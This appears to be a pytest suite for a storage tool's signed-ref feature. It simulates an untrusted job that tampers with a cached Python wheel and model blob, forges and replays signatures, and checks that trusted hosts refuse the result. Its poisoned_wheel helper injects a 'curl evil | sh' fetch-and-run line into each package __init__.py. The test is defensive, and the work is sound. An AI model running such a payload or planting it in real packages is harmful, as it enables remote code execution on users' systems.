# SPDX-License-Identifier: MIT
"""Signed refs against cache poisoning (issue 12; docs/REMOTE.md 6.1).

A trusted host pushes a volume holding a real wheel (Debian's wheel
package) and a model blob (safetensors bytes in the Hugging Face cache
layout), signed with its key.  An untrusted job holds the bucket
credentials but not the key: it pulls, modifies the wheel and the model
blob in its own store, and pushes them unsigned and signed with its own
key, to the same ref and to a new one; it forges a ref out of the trusted
one, and replays the trusted signature onto another ref and into another
prefix.  A trusted host on another store, with --trust or the store
setting, through the CLI and through its daemon, full and lazy, gets the
original bytes or a one-line refusal with exit 3 and its store unchanged.

Real parts: the S3 server fixture (SigV4-checking front + s3rver), real
stores and FUSE mounts, awscli as the job's own S3 client for forgeries.
The jobs are plain volumes in their own stores: `hoard job` (issue 12
item 3) was not on main when this was written.
"""
import hashlib
import io
import json
import os
import struct
import zipfile
from pathlib import Path

import pytest

from conftest import HOARD, run
from s3server import s3  # noqa: F401  (a fixture)
from test_sync import aws, hj, hoard, stores, tree  # noqa: F401  (stores: a fixture)

EXIT_REMOTE = 3
WHEEL = sorted(Path("/usr/share/python-wheels").glob("wheel-*.whl"))
WHEEL_DIR = "pip/wheels/3b/7f"
MODEL = "hub/models--acme--tiny/blobs"


def safetensors(seed, n=600_000):
    """A safetensors file: u64 LE header length, JSON header, tensor data."""
    data = bytes((i * 7 + seed) & 0xFF for i in range(n))
    header = json.dumps({"w": {"dtype": "U8", "shape": [n], "data_offsets": [0, n]},
                         "__metadata__": {"format": "pt"}}).encode()
    return struct.pack("<Q", len(header)) + header + data


def poisoned_wheel(orig):
    """The same wheel with one module changed, as a malicious job would."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(orig)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.endswith("__init__.py"):
                data += b"\nimport os; os.system('curl evil | sh')\n"
            zout.writestr(item, data)
    return out.getvalue()


def sha(b):
    return hashlib.sha256(b).hexdigest()


def fill(mp, wheel, blob, mtime=None):
    (mp / WHEEL_DIR).mkdir(parents=True, exist_ok=True)
    (mp / MODEL).mkdir(parents=True, exist_ok=True)
    w = mp / WHEEL_DIR / WHEEL[0].name
    m = mp / MODEL / "5e1f"
    w.write_bytes(wheel)
    m.write_bytes(blob)
    snap = mp / "hub/models--acme--tiny/snapshots/abc"
    snap.mkdir(parents=True, exist_ok=True)
    if not (snap / "model.safetensors").is_symlink():
        os.symlink("../../blobs/5e1f", snap / "model.safetensors")
    if mtime:
        os.utime(w, (mtime, mtime))
        os.utime(m, (mtime, mtime))


def state(s3, st):
    """What a refusal must leave alone: the store's figures and files."""
    s = json.loads(run([HOARD, "stats", "--store", st.path, "--json"]).stdout)
    # RocksDB's own files change with every open (WAL, manifest)
    return {k: v for k, v in s.items() if "db_" not in k and "disk" not in k}


def refused(p, *words):
    assert p.returncode == EXIT_REMOTE, (p.returncode, p.stderr)
    line = p.stderr.strip()
    assert line.count("\n") == 0, line
    for w in words:
        assert w in line, (w, line)
    return line


@pytest.fixture
def scene(s3, stores, tmp_path, request):
    """Trusted store T pushes volume "cache" signed; keys tk (trusted) and
    jk (the job's own).  Returns a namespace."""
    if not WHEEL:
        pytest.skip("Debian's python3-wheel-whl is not installed")

    class N:
        pass
    n = N()
    n.url = f"s3://{s3.bucket}/{request.node.name}"
    n.tk = tmp_path / "trusted.key"
    n.jk = tmp_path / "job.key"
    p = hoard(s3, "key", "generate", n.tk)
    assert p.stdout.startswith("key ") and (n.tk.stat().st_mode & 0o777) == 0o600
    hoard(s3, "key", "generate", n.jk)
    n.wheel = WHEEL[0].read_bytes()
    n.blob = safetensors(1)
    n.T = stores("T")
    n.T.init()
    mp = n.T.mount("cache")["cache"]
    fill(mp, n.wheel, n.blob, mtime=1_700_000_000)
    n.want = tree(mp)
    # the trusted push goes through T's daemon (sign= on the socket)
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    assert r["ref_updated"] and r["signed_by"]
    n.key_id = r["signed_by"]
    n.T.umount()
    return n


def test_key_generate_and_usage(s3, tmp_path):
    k = tmp_path / "k"
    hoard(s3, "key", "generate", k)
    text = k.read_text()
    assert text.startswith("hoard-secret-key 1 ed25519 ") and len(text) == 27 + 64 + 1
    assert (tmp_path / "k.pub").read_text().startswith("hoard-public-key 1 ed25519 ")
    # never overwrites, either file
    before = k.read_bytes()
    p = hoard(s3, "key", "generate", k, check=False)
    assert p.returncode == 1 and "never overwritten" in p.stderr
    assert k.read_bytes() == before
    (tmp_path / "k").rename(tmp_path / "k2")
    p = hoard(s3, "key", "generate", k, check=False)   # k.pub is still there
    assert p.returncode == 1 and not k.exists()
    # a secret key is not a trust anchor; garbage is not a key
    p = hoard(s3, "pull", "s3://b/p", "--volume", "v", "--trust", tmp_path / "k2",
              check=False)
    assert p.returncode == 2 and "secret key" in p.stderr
    (tmp_path / "junk").write_text("hello\n")
    p = hoard(s3, "pull", "s3://b/p", "--volume", "v", "--trust", tmp_path / "junk",
              check=False)
    assert p.returncode == 2 and "not a hoard public key" in p.stderr
    p = hoard(s3, "push", "s3://b/p", "--volume", "v", "--sign", tmp_path / "k.pub",
              check=False)
    assert p.returncode == 2 and "not a hoard secret key" in p.stderr
    p = hoard(s3, "push", "s3://b/p", "--volume", "v", "--trust", tmp_path / "k.pub",
              check=False)
    assert p.returncode == 2


def test_poisoning(s3, stores, scene, tmp_path):
    n = scene
    url = n.url
    tpub = f"{n.tk}.pub"

    # ---- the trusted side: B, a host with the trusted key's .pub ----------
    B = stores("B")
    hoard(s3, "init", "--from", url, "--store", B.path)
    out = hoard(s3, "config", "--store", B.path, "trust", tpub).stdout
    assert out.split()[0] == n.key_id
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id and r["added"] >= 2
    ls = hj(s3, "ls-remote", url, "--trust", tpub)["refs"]
    assert [(x["ref"], x["signature"], x["key"]) for x in ls] == \
        [("cache/main", "trusted", n.key_id)]

    # ---- the untrusted job: bucket credentials, its own store, no key -----
    J = stores("J")
    hoard(s3, "init", "--from", url, "--store", J.path)
    hj(s3, "pull", url, "--store", J.path, "--volume", "cache")
    mp = J.mount("cache")["cache"]
    bad_wheel = poisoned_wheel(n.wheel)
    bad_blob = n.blob[:-1000] + b"\x66" * 1000
    assert sha(bad_wheel) != sha(n.wheel) and sha(bad_blob) != sha(n.blob)
    fill(mp, bad_wheel, bad_blob, mtime=1_800_000_000)   # newer: would win a merge
    J.umount()

    def b_untouched(before):
        assert state(s3, B) == before
        mpb = B.mount("cache")["cache"]
        assert tree(mpb) == n.want
        assert (mpb / WHEEL_DIR / WHEEL[0].name).read_bytes() == n.wheel
        assert (mpb / MODEL / "5e1f").read_bytes() == n.blob
        B.umount()

    before = state(s3, B)
    b_untouched(before)

    # 1. unsigned push over the trusted ref
    hj(s3, "push", url, "--store", J.path, "--volume", "cache")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not signed", "cache/main")
    b_untouched(before)
    # also with --trust alone (no store setting) on a fresh store: no volume made
    D = stores("D")
    hoard(s3, "init", "--from", url, "--store", D.path)
    d_before = state(s3, D)
    p = hoard(s3, "pull", url, "--store", D.path, "--volume", "cache", "--trust", tpub,
              check=False)
    refused(p, "not signed")
    p = hoard(s3, "pull", url, "--store", D.path, "--volume", "cache", "--trust", tpub,
              "--lazy", check=False)
    refused(p, "not signed")
    assert state(s3, D) == d_before
    # ... while a host that trusts nobody takes it (today's unsigned refs)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url)["refs"]}
    assert ls["cache/main"]["signature"] == "unsigned" and ls["cache/main"]["key"] is None

    # 2. signed with the job's own key, same ref and a new ref
    for ref in ("main", "pr-1"):
        r = hj(s3, "push", url, "--store", J.path, "--volume", "cache", "--ref", ref,
               "--sign", n.jk)
        assert r["signed_by"] and r["signed_by"] != n.key_id
        p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", ref,
                  check=False)
        refused(p, "not trusted", r["signed_by"])
        b_untouched(before)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", tpub)["refs"]}
    assert ls["cache/main"]["signature"] == "untrusted"
    assert ls["cache/pr-1"]["signature"] == "untrusted"
    # and unsigned to a new ref
    hj(s3, "push", url, "--store", J.path, "--volume", "cache", "--ref", "pr-2")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", "pr-2",
              check=False)
    refused(p, "not signed")

    # 3. the trusted host pushes again (signed): B gets the original bytes,
    #    although the bucket now holds the job's packs too
    mpt = n.T.mount("cache")["cache"]
    assert tree(mpt) == n.want
    hj(s3, "push", url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    n.T.umount()
    good_ref = aws(s3, "s3", "cp", f"{url}/refs/cache/main", "-").stdout
    assert good_ref.startswith("hoard-ref 2\n")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id
    before = state(s3, B)
    b_untouched(before)
    # a fresh trusted store through its daemon, mounted, and lazily
    E = stores("E")
    hoard(s3, "init", "--from", url, "--store", E.path)
    mpe = E.mount("cache")["cache"]
    r = hj(s3, "pull", url, "--store", E.path, "--volume", "cache", "--trust", tpub,
           "--lazy")
    assert r["signed_by"] == n.key_id and "pull of volume cache done" in E.log()
    assert (mpe / WHEEL_DIR / WHEEL[0].name).read_bytes() == n.wheel
    assert (mpe / "hub/models--acme--tiny/snapshots/abc/model.safetensors").read_bytes() == n.blob
    E.umount()

    # 4. a ref forged with bucket credentials but without the key: the
    #    trusted ref's key and signature over the job's manifest
    job_ref = aws(s3, "s3", "cp", f"{url}/refs/cache/pr-2", "-").stdout
    fields = dict(l.split(" ", 1) for l in job_ref.splitlines()[1:])
    forged = good_ref.splitlines(keepends=True)
    forged = [f"manifest {fields['manifest']}\n" if l.startswith("manifest ") else
              f"files {fields['files']}\n" if l.startswith("files ") else
              f"bytes {fields['bytes']}\n" if l.startswith("bytes ") else l
              for l in forged]
    forgeries = {
        "forged-manifest": "".join(forged),
        # the job's own signature under the trusted key's name
        "forged-key": "".join(
            l if not l.startswith("key ") else
            [x for x in good_ref.splitlines(keepends=True) if x.startswith("key ")][0]
            for l in aws(s3, "s3", "cp", f"{url}/refs/cache/pr-1", "-").stdout
            .splitlines(keepends=True)),
        # 5. the trusted signature copied verbatim onto another ref
        "copied": good_ref,
    }
    for name, text in forgeries.items():
        (tmp_path / name).write_text(text)
        aws(s3, "s3", "cp", tmp_path / name, f"{url}/refs/cache/{name}")
        p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", name,
                  check=False)
        refused(p, "does not verify")
    aws(s3, "s3", "cp", tmp_path / "forged-manifest", f"{url}/refs/cache/main")
    B.mount("cache")
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify", "through the hoardfs daemon")
    B.umount()
    b_untouched(before)
    ls = {x["ref"]: x for x in hj(s3, "ls-remote", url, "--trust", tpub)["refs"]}
    for name in ("main", *forgeries):
        assert ls[f"cache/{name}"]["signature"] == "invalid", name
    text = hoard(s3, "ls-remote", url).stdout
    assert "invalid" in text and n.key_id in text

    # 6. the trusted ref replayed into another repository (prefix) with
    #    the same config: refused too
    other = url + "-copy"
    for key in ("config", f"manifests/{fields['manifest']}"):
        aws(s3, "s3", "cp", f"{url}/{key}", f"{other}/{key}")
    aws(s3, "s3", "cp", tmp_path / "copied", f"{other}/refs/cache/main")
    p = hoard(s3, "pull", other, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify")
    assert state(s3, B) == before

    # the store setting: shown, replaced, removed
    out = hoard(s3, "config", "--store", B.path, "trust").stdout
    assert out.split()[0] == n.key_id
    out = hoard(s3, "config", "--store", B.path, "trust", "none").stdout
    assert out.strip() == "none"
    # with no trust left, a bad signature is still refused, unsigned taken
    p = hoard(s3, "pull", url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "does not verify")
    r = hj(s3, "pull", url, "--store", B.path, "--volume", "cache", "--ref", "pr-2")
    assert r["signed_by"] is None


def test_trust_setting_through_daemon(s3, stores, scene):
    n = scene
    tpub, jpub = f"{n.tk}.pub", f"{n.jk}.pub"
    B = stores("B")
    hoard(s3, "init", "--from", n.url, "--store", B.path)
    mp = B.mount("cache")["cache"]
    out = hoard(s3, "config", "--store", B.path, "trust", jpub, tpub).stdout
    assert len(out.splitlines()) == 2 and n.key_id in out
    p = hoard(s3, "config", "--store", B.path, "trust", n.tk, check=False)
    assert p.returncode == 2 and "secret key" in p.stderr
    r = hj(s3, "pull", n.url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == n.key_id
    assert (mp / MODEL / "5e1f").read_bytes() == n.blob
    # only the job's key: the trusted ref is now "another key"
    hoard(s3, "config", "--store", B.path, "trust", jpub)
    p = hoard(s3, "pull", n.url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not trusted", n.key_id)
    B.umount()
    # the setting is in the store: it holds offline too
    out = hoard(s3, "config", "--store", B.path, "trust").stdout
    assert len(out.splitlines()) == 1 and n.key_id not in out
    p = hoard(s3, "pull", n.url, "--store", B.path, "--volume", "cache", check=False)
    refused(p, "not trusted")
    # a re-push of the same tree by the trusted key changes nothing
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.tk)
    assert not r["ref_updated"] and r["signed_by"] == n.key_id
    # the same tree signed by another key is committed again (re-signed)
    r = hj(s3, "push", n.url, "--store", n.T.path, "--volume", "cache", "--sign", n.jk)
    assert r["ref_updated"] and r["signed_by"] != n.key_id
    job_id = r["signed_by"]
    r = hj(s3, "pull", n.url, "--store", B.path, "--volume", "cache")
    assert r["signed_by"] == job_id and r["identical"] >= 2
